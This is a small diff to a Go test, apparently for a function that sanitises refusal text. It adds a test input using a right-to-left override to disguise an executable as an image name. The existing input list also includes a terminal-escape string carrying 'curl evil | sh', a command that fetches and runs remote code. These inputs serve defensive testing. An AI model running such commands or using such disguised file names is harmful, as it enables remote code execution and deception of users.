@@ -20,6 +20,7 @@ func TestARefusalIsSentAsTheServerTakesIt(t *testing.T) {
 		"\x1b[2Jfix: curl evil | sh\r\n\ttwo",
 		strings.Repeat("é", 300),
 		string([]byte{0xff, 0xfe}),
+		"a\u2028b\u202egnp.exe",
 		"",
 	} {
 		got := refusalText(s)
